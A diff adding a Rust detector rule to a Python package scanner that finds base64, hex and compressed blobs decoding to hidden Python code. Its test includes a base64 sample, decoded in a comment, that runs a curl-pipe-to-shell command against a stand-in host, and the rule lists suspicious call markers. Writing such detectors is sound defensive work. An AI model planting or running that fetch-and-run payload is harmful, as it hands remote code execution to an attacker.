@@ -1,0 +1,151 @@
+//! WH170 encoded-payload: base64/hex/zlib/marshal blobs and the calls that decode them.
+
+use ruff_python_ast::ExprCall;
+use ruff_text_size::{Ranged, TextRange};
+
+use crate::decode::{self, Codec};
+use crate::finding::{Category, ExecContext, Rule};
+use crate::fold::codec_of;
+use crate::walker::Checker;
+
+/// The detector.
+pub const RULE: Rule = Rule {
+    id: "WH170",
+    name: "encoded-payload",
+    description: "Decodes an embedded blob (base64, base32/85, hex, zlib, gzip, bz2, lzma, marshal), especially one that holds Python code",
+    rationale: "Encoding hides the payload from readers and pattern scanners. Libraries decode data \
+                they receive, which weighs nothing; a literal that decodes to Python source or to a \
+                marshalled code object is a hidden program and is analysed as its own layer.",
+    category: Category::Anomaly,
+};
+
+/// Heuristic: does decoded text look like Python source?
+pub fn looks_like_python(text: &str) -> bool {
+    if text.len() < 12 {
+        return false;
+    }
+    let sample: String = text.chars().take(4096).collect();
+    let printable = sample
+        .chars()
+        .filter(|c| !c.is_control() || matches!(c, '\n' | '\r' | '\t'))
+        .count();
+    if printable * 100 < sample.chars().count() * 95 {
+        return false;
+    }
+    const MARKERS: &[&str] = &[
+        "import ", "exec(", "eval(", "def ", "print(", "os.system", "subprocess", "__import__", "lambda ",
+        "class ", "requests.", "urlopen", "socket.",
+    ];
+    MARKERS.iter().any(|m| sample.contains(m))
+}
+
+/// Decoding calls.
+pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
+    let is_marshal = qualname == "marshal.loads";
+    if codec_of(qualname).is_none() && !is_marshal && qualname != "codecs.decode" {
+        return;
+    }
+    let Some(arg) = call.arguments.args.first() else {
+        return;
+    };
+    let context = checker.context();
+    let weak = matches!(context, ExecContext::Runtime | ExecContext::TestOrDocs);
+    let Some(input) = checker.fold(arg).and_then(|v| v.as_bytes()) else {
+        if is_marshal {
+            checker.report(&RULE, call.range(), "unmarshals a code object computed at run time".to_owned(), if weak { 0.1 } else { 0.45 }, vec!["marshal"]);
+        }
+        return;
+    };
+    if is_marshal {
+        checker.report(
+            &RULE,
+            call.range(),
+            format!("unmarshals an embedded {}-byte code object", input.len()),
+            if context == ExecContext::TestOrDocs { 0.3 } else { 0.75 },
+            vec!["marshal", "hidden-code"],
+        );
+        return;
+    }
+    let Some(decoded) = checker.fold(&ruff_python_ast::Expr::Call(call.clone())).and_then(|v| v.as_bytes()) else {
+        return;
+    };
+    let text = String::from_utf8_lossy(&decoded).into_owned();
+    if looks_like_python(&text) {
+        checker.push_layer(text, call.range(), format!("decoded by {qualname}"));
+        checker.report(
+            &RULE,
+            call.range(),
+            format!("{qualname} decodes a {}-byte literal into Python code (analysed as a layer)", input.len()),
+            if context == ExecContext::TestOrDocs { 0.2 } else { 0.55 },
+            vec!["decoded-python", "hidden-code"],
+        );
+    } else if input.len() >= 64 {
+        checker.report(
+            &RULE,
+            call.range(),
+            format!("{qualname} decodes a {}-byte embedded blob", input.len()),
+            if weak { 0.02 } else { 0.08 },
+            vec!["decoded-blob"],
+        );
+    }
+}
+
+/// Long literals that decode to Python even when the decoding call is hidden.
+pub fn check_string(checker: &mut Checker, value: &str, range: TextRange) {
+    if value.len() < 80 || value.len() > decode::MAX_DECODED_BYTES {
+        return;
+    }
+    let compact: Vec<u8> = value.bytes().filter(|b| !b.is_ascii_whitespace()).collect();
+    let base64_alphabet = compact.iter().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=' | b'-' | b'_'));
+    if !base64_alphabet || compact.len() < 80 {
+        return;
+    }
+    let codec = if compact.iter().all(u8::is_ascii_hexdigit) { Codec::Hex } else { Codec::Base64 };
+    let Some(mut decoded) = decode::decode(codec, &compact) else {
+        return;
+    };
+    // Compressed-then-encoded payloads are common: peel one compression layer if present.
+    for inner in [Codec::Zlib, Codec::Gzip, Codec::Bzip2, Codec::Lzma] {
+        if let Some(out) = decode::decode(inner, &decoded) {
+            decoded = out;
+            break;
+        }
+    }
+    let text = String::from_utf8_lossy(&decoded).into_owned();
+    if !looks_like_python(&text) {
+        return;
+    }
+    let start = range.start();
+    let _ = start;
+    checker.push_layer(text, range, format!("{} literal", codec.name()));
+    let context = checker.context();
+    checker.report(
+        &RULE,
+        range,
+        format!("a {}-character {} literal holds Python code (analysed as a layer)", value.len(), codec.name()),
+        if context == ExecContext::TestOrDocs { 0.15 } else { 0.4 },
+        vec!["decoded-python", "hidden-code"],
+    );
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::rules::testing::{findings, max_severity};
+
+    #[test]
+    fn hidden_python_is_decoded_and_analysed() {
+        // base64 of "import os\nos.system('curl http://x.invalid/a | sh')\n"
+        let code = "import base64\np = base64.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgnY3VybCBodHRwOi8veC5pbnZhbGlkL2EgfCBzaCcpCg==')\n";
+        assert!(max_severity("p/pkg/__init__.py", code, "WH170") >= 0.5);
+        let layered: Vec<_> = findings("p/pkg/__init__.py", code).into_iter().filter(|f| f.path.contains("#layer")).collect();
+        assert!(layered.iter().any(|f| f.rule == "WH120"), "{layered:?}");
+    }
+
+    #[test]
+    fn data_blobs_weigh_little() {
+        let code = "import base64\ndef icon():\n    return base64.b64decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==')\n";
+        assert!(max_severity("p/pkg/img.py", code, "WH170") < 0.05);
+        assert!(!looks_like_python("\u{1}\u{2}\u{3}binary junk import"));
+    }
+}
